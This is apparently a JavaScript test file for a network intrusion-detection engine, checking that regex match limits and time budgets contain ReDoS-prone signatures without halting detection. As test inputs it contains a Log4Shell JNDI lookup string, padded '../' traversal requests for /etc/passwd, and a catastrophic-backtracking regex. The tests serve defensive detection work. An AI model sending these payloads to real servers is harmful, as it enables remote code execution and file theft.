/**
 * Regexes on attacker data in the engine: pathological payloads stop at the match limit (counted,
 * per signature), detection goes on, and the per-packet / per-second regex budget skips (and
 * counts) the remaining regex checks. Limit counters are asserted, never wall time.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { compileRuleset } from '../../../src/signatures/compile.js';
import { Conv, engineConfig, feed, makeEngine, rules } from './helpers.js';

const dbDir = fileURLToPath(new URL('../../../databases/', import.meta.url));
const shipped = readdirSync(dbDir)
  .filter((f) => f.endsWith('.yaml') && f !== 'network-profiles.yaml')
  .map((f) => ({ file: join(dbDir, f), text: readFileSync(join(dbDir, f), 'utf8') }));

const OPERATOR_RULE = 'alert tcp any any -> any any (msg:"operator ReDoS-prone rule"; pcre:"/(a+)+$/"; sid:1000001; rev:1;)';

test('(a+)+$ on 31 bytes and 12 KB of ../ stop at the match limit (counted per signature); a later Log4Shell is still detected', () => {
  const rs = compileRuleset([...shipped, { file: 'operator.rules', text: OPERATOR_RULE }]);
  const { engine, detections } = makeEngine(rs);
  const a31 = 'a'.repeat(30) + '!';
  for (let i = 0; i < 5; i++) {
    const c = new Conv(`198.51.100.${10 + i}`, '203.0.113.1', 40000 + i, 8080).handshake().c(a31).fin();
    feed(engine, c.frames);
  }
  // 12 KB of ../ in 1,460-byte segments of one HTTP request
  const dots = 'GET /' + '../'.repeat(4096);
  const t = new Conv('198.51.100.30', '203.0.113.1', 41000, 80).handshake();
  for (let off = 0; off < dots.length; off += 1460) t.c(dots.slice(off, off + 1460));
  feed(engine, t.frames);
  const s1 = engine.stats().regex;
  const bySig = new Map(s1.limitHitsBySignature.map((x) => [x.signatureId, x.limitHits]));
  assert.ok((bySig.get(1000001) ?? 0) >= 5, `operator rule limit hits: ${JSON.stringify(s1.limitHitsBySignature)}`);
  assert.ok((bySig.get(9000225) ?? 0) >= 1, `9000225 limit hits: ${JSON.stringify(s1.limitHitsBySignature)}`);
  assert.equal(s1.limitHits, [...bySig.values()].reduce((x, y) => x + y, 0) + s1.limitHitsUntracked);
  assert.equal(detections.filter((d) => d.signatureId === 1000001 || d.signatureId === 9000225).length, 0);

  const log4 = new Conv('198.51.100.99', '203.0.113.1', 42000, 8080).handshake().c('GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n').fin();
  feed(engine, log4.frames);
  assert.ok(detections.some((d) => d.srcIp === '198.51.100.99' && d.signature.includes('Log4Shell')), JSON.stringify(detections.map((d) => d.signature)));
  // the budget default (10 ms per packet) is far above what the limit lets one packet spend here
  assert.equal(engine.stats().regex.skipped, 0);
});

test('a traversal padded with thousands of ../ and ./ segments is still detected by 9000225 (below the limit)', () => {
  const rs = compileRuleset(shipped);
  const { engine, detections } = makeEngine(rs, { config: engineConfig({ reassemblyDepth: 1024 * 1024 }) });
  const payloads = ['GET /' + '../'.repeat(4000) + 'etc/passwd HTTP/1.1\r\n\r\n', 'GET /../..' + '/.'.repeat(3000) + '/etc/passwd HTTP/1.1\r\n\r\n'];
  payloads.forEach((p, i) => {
    const c = new Conv(`198.51.100.${50 + i}`, '203.0.113.1', 43000 + i, 80).handshake();
    for (let off = 0; off < p.length; off += 1460) c.c(p.slice(off, off + 1460));
    feed(engine, c.frames);
    assert.ok(detections.some((d) => d.srcIp === `198.51.100.${50 + i}` && d.signatureId === 9000225), `payload ${i}`);
  });
  // (verifications of the partial stream, a long ../ run with no file yet, may hit the limit: no match)
});

test('the packet budget skips the remaining regex checks of a packet (counted); the next packet is inspected again', () => {
  const text = [1, 2, 3, 4, 5].map((i) => `alert tcp any any -> any 80 (msg:"r${i}"; pcre:"/x${i}/"; sid:${i};)`).join('\n');
  let t = 0;
  // every clock reading advances 3 ms: one regex "costs" 3 ms, the 10 ms packet budget pays for 4
  const { engine, detections } = makeEngine(rules(text), {
    config: engineConfig({ regex: { ...engineConfig().regex, packetBudgetMs: 10, secondBudgetMs: 0 } }),
    regexNow: () => (t += 3),
  });
  const c = new Conv('198.51.100.7', '203.0.113.1', 44000, 80).handshake().c('x1 x2 x3 x4 x5').c('x5');
  feed(engine, c.frames);
  const s = engine.stats().regex;
  // packet 1: sids 1-4 run and fire, sid 5 is skipped; packet 2 runs sid 5 afresh
  assert.deepEqual(detections.map((d) => d.signatureId).sort(), [1, 2, 3, 4, 5]);
  assert.equal(s.packetBudgetExhausted, 1);
  assert.equal(s.skipped, 1);
});

test('the per-second budget bounds the regex time of a flood of packets; it refills the next second', () => {
  const text = 'alert tcp any any -> any 80 (msg:"r"; pcre:"/(a+)+$/"; sid:7;)\nalert tcp any any -> any 80 (msg:"hit"; content:"HIT"; pcre:"/HIT\\d/"; sid:8;)';
  let t = 0;
  const { engine, detections } = makeEngine(rules(text), {
    config: engineConfig({ regex: { ...engineConfig().regex, packetBudgetMs: 0, secondBudgetMs: 20 } }),
    regexNow: () => (t += 1),
  });
  const c = new Conv('198.51.100.8', '203.0.113.1', 45000, 80, { tsUs: 1_700_000_000_000_000 }).handshake();
  for (let i = 0; i < 50; i++) c.c('a'.repeat(30) + '!');
  c.c('HIT1');
  feed(engine, c.frames);
  const s = engine.stats().regex;
  assert.ok(s.secondBudgetExhausted >= 1);
  assert.ok(s.skipped > 0);
  assert.equal(detections.length, 0, 'the regex of sid 8 was skipped while the budget was spent');
  t += 1000; // the next second
  feed(engine, new Conv('198.51.100.9', '203.0.113.1', 45001, 80).handshake().c('HIT2').frames);
  assert.deepEqual(detections.map((d) => d.signatureId), [8]);
});
